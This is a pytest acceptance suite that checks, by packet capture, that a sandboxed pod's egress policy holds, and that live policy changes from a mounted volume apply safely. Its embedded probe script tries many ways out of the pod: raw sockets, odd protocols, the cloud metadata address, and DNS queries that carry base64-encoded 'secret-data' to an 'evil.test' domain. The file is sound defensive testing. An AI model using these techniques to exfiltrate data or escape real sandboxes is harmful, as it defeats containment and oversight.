# SPDX-License-Identifier: Apache-2.0
"""Acceptance, section 7, judged from outside: a packet capture on the pod's own interface says what left. And a policy that changes while
the pod runs, as a ConfigMap's volume does."""
import json
import os
import signal
import time

import pytest

from helpers import audit
from helpers.capture import Capture
from helpers.policies import POL
from helpers.processes import Processes

# A documentation address (RFC 5737): nobody is there, but a connection to it has to leave the pod to find that out.
ALLOWED, DENIED = "198.51.100.7", "203.0.113.77"
NETWORK = f"""
network_policies:
  probe:
    endpoints:
      - {{host: {ALLOWED}, port: 8080}}
      - {{host: "*.wild.test", port: 443}}
      - {{host: localhost, ports: [8443, 9090]}}
    binaries: [{{path: "/**"}}]
"""

# Everything a session can think of, each try with what came out.
ATTEMPTS = """
import errno, socket, struct, sys
outcomes = {}

def attempt(name, action):
    try:
        outcomes[name] = action() or "done"
    except OSError as error:
        outcomes[name] = errno.errorcode.get(error.errno, str(error))

def connect(family, address, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(3)
        sock.connect(address)
        return "connected"

def send(family, address, kind=socket.SOCK_DGRAM, protocol=0, data=b"data that must not leave", option=None, flags=0):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(1)
        if option:
            sock.setsockopt(*option)
        sock.sendto(data, flags, address)
        return "sent"

FOUR, SIX = "%s", "2001:db8::77"
ECHO = struct.pack(">BBHHH", 8, 0, 0xf7ff - 1, 1, 0)
for port in (1, 22, 25, 80, 443, 4444, 6667, 65535):
    attempt(f"tcp4:{port}", lambda: connect(socket.AF_INET, (FOUR, port)))
    attempt(f"tcp6:{port}", lambda: connect(socket.AF_INET6, (SIX, port)))
for port in (123, 443, 4433, 51820):
    attempt(f"udp4:{port}", lambda: send(socket.AF_INET, (FOUR, port)))
    attempt(f"udp6:{port}", lambda: send(socket.AF_INET6, (SIX, port)))
attempt("udplite", lambda: send(socket.AF_INET, (FOUR, 4433), protocol=136))
attempt("icmp", lambda: send(socket.AF_INET, (FOUR, 0), protocol=socket.IPPROTO_ICMP, data=ECHO))
attempt("icmpv6", lambda: send(socket.AF_INET6, (SIX, 0), protocol=socket.IPPROTO_ICMPV6, data=b"\\x80" + ECHO[1:]))
attempt("raw-icmp", lambda: send(socket.AF_INET, (FOUR, 0), socket.SOCK_RAW, socket.IPPROTO_ICMP, ECHO))
attempt("raw-ip", lambda: send(socket.AF_INET, (FOUR, 0), socket.SOCK_RAW, socket.IPPROTO_RAW, bytes(20)))
attempt("raw6", lambda: send(socket.AF_INET6, (SIX, 0), socket.SOCK_RAW, socket.IPPROTO_ICMPV6, ECHO))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close())
attempt("sctp", lambda: connect(socket.AF_INET, (FOUR, 5000), protocol=132))
attempt("sctp-seqpacket", lambda: connect(socket.AF_INET, (FOUR, 5000), socket.SOCK_SEQPACKET, 132))
attempt("dccp", lambda: connect(socket.AF_INET, (FOUR, 5000), 6, 33))
attempt("mptcp", lambda: connect(socket.AF_INET, (FOUR, 4444), protocol=262))
attempt("fast-open", lambda: send(socket.AF_INET, (FOUR, 4444), socket.SOCK_STREAM, data=b"x", flags=socket.MSG_FASTOPEN))
attempt("broadcast", lambda: send(socket.AF_INET, ("255.255.255.255", 4433), option=(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)))
attempt("multicast", lambda: send(socket.AF_INET, ("224.0.0.251", 5353)))
attempt("multicast6", lambda: send(socket.AF_INET6, ("ff02::fb", 5353)))
attempt("link-local", lambda: connect(socket.AF_INET, ("169.254.169.254", 80)))
attempt("device", lambda: send(socket.AF_INET, (FOUR, 4433), option=(socket.SOL_SOCKET, 25, b"eth0\\0")))
for server in ("8.8.8.8", "10.96.0.10", "127.0.0.53", "2001:db8::53"):
    for name in ("c2VjcmV0LWRhdGE.evil.test", "c2VjcmV0LWRhdGE.wild.test"):
        query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0\\0\\x01\\0\\x01"
        attempt(f"name:{server}", lambda: send(socket.AF_INET6 if ":" in server else socket.AF_INET, (server, 53), data=query))
for address in ((FOUR, 853), (FOUR, 5353)):
    attempt(f"names-elsewhere:{address[1]}", lambda: connect(socket.AF_INET, address))
import json
print(json.dumps(outcomes))
""" % DENIED

# The exec endpoint answers callers from outside; that it does is no leak.
ENDPOINT_PORT = 8443


def left(capture) -> list:
    """What left that neither the kernel nor the exec endpoint sends."""
    return [packet for packet in capture.packets if not packet.is_housekeeping and packet.source_port != ENDPOINT_PORT]


def audited(sandbox) -> list:
    return [audit.flat(line) for line in sandbox.logs().splitlines() if line.startswith("{")]


@pytest.fixture(scope="module")
def sandbox(all_pods):
    return all_pods(policy=POL + NETWORK)


def test_N9_the_capture_sees_what_is_allowed(sandbox):
    """Else "nothing was seen" would mean nothing."""
    with Capture(sandbox.pid("workload")) as capture:
        sandbox.run("curl", "-s", "--max-time", "2", f"http://{ALLOWED}:8080/")
        sandbox.run("curl", "-s", "--noproxy", "*", "--max-time", "2", f"http://{ALLOWED}:8080/")
    seen = [packet for packet in left(capture) if packet.destination == ALLOWED and packet.port == 8080]
    assert len({packet.source_port for packet in seen}) >= 2, capture.packets
    assert left(capture) == seen


def tried(sandbox) -> dict:
    result = sandbox.python(ATTEMPTS)
    assert result.code == 0, result
    return json.loads(result.out)


def test_N8_N9_N10_no_packet_left(sandbox):
    with Capture(sandbox.pid("workload")) as capture:
        began = time.monotonic()
        outcomes = tried(sandbox)
        seconds = time.monotonic() - began
    assert left(capture) == []
    assert seconds < 20, "a program waits instead of being told at once"
    wrong = {name: outcome for name, outcome in outcomes.items() if outcome == "connected" and name not in ("tcp4:443", "tcp6:443")}
    assert not wrong  # 443 is listened for, and then refused: the policy has a wildcard there
    for name in ("tcp4:22", "tcp6:22", "tcp4:4444", "tcp6:65535", "mptcp"):
        assert outcomes[name] == "ECONNREFUSED", (name, outcomes[name])
    for name in ("raw-icmp", "raw-ip", "raw6", "packet"):
        assert outcomes[name] == "EPERM", (name, outcomes[name])
    for name in ("sctp", "sctp-seqpacket", "dccp"):
        assert outcomes[name] in ("EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EPERM", "ECONNREFUSED"), (name, outcomes[name])


def test_N8_N9_direct_attempts_are_audited(sandbox):
    tried(sandbox)
    wanted = {("tcp", "4444"), ("udp", "4433")}
    deadline = time.monotonic() + 15
    while True:
        direct = [line for line in audited(sandbox) if line.get("via") == "direct"]
        heard = {(line.get("protocol"), str(line.get("port"))) for line in direct if line.get("address") == DENIED}
        if wanted <= heard:
            break
        assert time.monotonic() < deadline, direct
        time.sleep(0.2)
    # A session cannot send any; the kernel's own "unreachable", to a name server whose answer nobody waited for, is nobody's attempt.
    assert not [line for line in direct if line.get("protocol", "").startswith("icmp")]


@pytest.mark.parametrize("state", [signal.SIGSTOP, signal.SIGKILL])
def test_N9_no_packet_left_while_egress_is_away(pods, state):
    """Stopped: connections wait. Killed over and over: ports stay taken, nothing is routed elsewhere."""
    sandbox = pods.fresh(policy=POL + NETWORK)
    processes = Processes(sandbox)
    egress = processes.host_pid("navigator-egress")
    program = ATTEMPTS.replace("settimeout(3)", "settimeout(0.3)").replace("settimeout(1)", "settimeout(0.3)")
    with Capture(sandbox.pid("workload")) as capture:
        os.kill(egress, state)
        outcomes = json.loads(sandbox.python(program).out)
    assert left(capture) == []
    assert outcomes["tcp4:4444"] == "ECONNREFUSED"
    if state == signal.SIGSTOP:
        os.kill(egress, signal.SIGCONT)


def test_TE8_the_exec_endpoint_is_never_meant(sandbox):
    """It listens on every address of the pod and the policy names its port: still, `localhost` never means it."""
    for options in (["--noproxy", "*"], ["--noproxy", ""]):
        for host in ("localhost", "127.0.0.1", "[::1]"):
            result = sandbox.run("curl", "-sk", "--max-time", "5", *options, f"https://{host}:{ENDPOINT_PORT}/livez")
            assert result.code in (7, 35, 52, 56), (options, host, result)
    assert sandbox.run("curl", "-s", "--noproxy", "", "--max-time", "5", f"http://localhost:{ENDPOINT_PORT}/").out.count("own_port") == 1


# -- the policy's volume

FREE = POL + """
network_policies:
  probe:
    endpoints: [{host: localhost, port: 81}]
    binaries: [{path: "/**"}]
"""


class Volume:
    """A ConfigMap's volume as the kubelet keeps it: a new folder, then the link to it in one step."""

    def __init__(self, folder):
        self.folder = folder
        self.version = 0
        folder.mkdir(mode=0o755)
        (folder / "policy.yaml").symlink_to("..data/policy.yaml")

    def become(self, text: str) -> None:
        self.version += 1
        place = self.folder / f"..{self.version}"
        place.mkdir(mode=0o755)
        (place / "policy.yaml").write_text(text)
        (self.folder / "..next").symlink_to(place.name)
        os.rename(self.folder / "..next", self.folder / "..data")


def with_volume(folder):
    def change(manifest):
        manifest["metadata"]["annotations"]["navigator.sandbox/policy"] = "configmap/agents"
        manifest["spec"]["volumes"].append({"name": "navigator-policy", "hostPath": {"path": str(folder), "type": "Directory"}})
        for container in manifest["spec"]["containers"]:
            container.setdefault("volumeMounts", []).append({"name": "navigator-policy", "mountPath": "/run/navigator-policy", "readOnly": True})
    return change


def status_of(sandbox, url="http://localhost:81/") -> str:
    return sandbox.run("curl", "-s", "--noproxy", "", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "20", url).out


def events(sandbox, name: str) -> list:
    return [line for line in audited(sandbox) if line["event"] == name]


def wait_for(check, seconds: float = 10):
    deadline = time.monotonic() + seconds
    while not (value := check()):
        assert time.monotonic() < deadline, "it did not happen in time"
        time.sleep(0.1)
    return value


def test_H1_H3_H4_H6_the_volume_of_a_running_pod(pods, tmp_path):
    tmp_path.chmod(0o755)
    volume = Volume(tmp_path / "volume")
    volume.become(POL)
    sandbox = pods.fresh(change=with_volume(volume.folder))
    assert status_of(sandbox) == "403"

    volume.become(FREE)
    wait_for(lambda: status_of(sandbox) == "502")  # allowed, and nobody is there
    assert events(sandbox, "policy_changed")

    for bad in ("typo: 1\n", "", FREE + "typo: {}\n", FREE.rstrip()[:-5], FREE.replace("localhost", "'*'")):
        seen = len(events(sandbox, "policy_refused"))
        volume.become(bad)
        refused = wait_for(lambda: events(sandbox, "policy_refused")[seen:])
        assert "policy.yaml" in refused[-1]["reason"]
        assert status_of(sandbox) == "502", "a policy that was refused has changed something"

    volume.become(POL)
    wait_for(lambda: status_of(sandbox) == "403")


def test_H6_the_workload_cannot_write_the_volume(pods, tmp_path):
    tmp_path.chmod(0o755)
    volume = Volume(tmp_path / "volume")
    volume.become(POL)
    sandbox = pods.fresh(change=with_volume(volume.folder))
    for container in ("workload", "navigator"):
        mounts = open(f"/proc/{sandbox.pid(container)}/mounts", encoding="utf-8").read().splitlines()
        options = [line.split()[3] for line in mounts if line.split()[1] == "/run/navigator-policy"]
        assert options and options[-1].split(",")[0] == "ro", (container, options)
